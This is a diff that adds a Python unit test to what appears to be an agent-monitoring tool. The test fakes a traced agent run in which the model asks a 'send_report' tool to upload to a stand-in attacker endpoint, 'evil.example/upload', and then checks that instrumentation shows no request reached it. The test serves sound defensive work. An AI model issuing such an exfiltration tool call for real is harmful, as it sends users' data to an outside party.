@@ -475,3 +475,32 @@ def test_the_policys_declaration_closes_a_recorded_calls_other_kinds() -> None:
     assert {kind: declared.place(kind) for kind in ("http_request", "db_query")} == dict.fromkeys(
         ("http_request", "db_query"), PlaceState.DECLARED
     )
+
+
+def test_the_process_declaration_answers_a_destination_no_request_reached() -> None:
+    """The agent's process declares its HTTP instrumented (rampart.coverage): a request to
+    the host send_report was handed would have been recorded, so none went there. The
+    declaration closes the claim as it closes the place of a call that recorded nothing."""
+    resource = {"service.name": "weather-agent", "rampart.coverage": [HTTP]}
+    spans = two_tools(resource=resource)
+    spans[1] = mk(
+        "m1",
+        "chat",
+        chat_asking(
+            ("get_weather", "c1", {"city": "Paris"}),
+            ("send_report", "c2", {"endpoint": "https://evil.example/upload"}),
+        ),
+        parent="a0",
+    )
+    agent = run_of(
+        *spans,
+        mk("h1", "GET", GET, parent="t1", kind="CLIENT", start=31, resource=resource),
+        mk("h2", "GET", GET, parent="t2", kind="CLIENT", start=71, resource=resource),
+    )
+    scope = report_scope(agent)
+    assert scope.unmet == (Destination("endpoint", "evil.example"),)
+    assert scope.exempt_kinds == ("http_request",)
+    assert scope.place("http_request") is PlaceState.RECORDED
+    state, why = channel(agent, HTTP)
+    assert state is OBSERVED, why
+    assert "evil.example" not in why
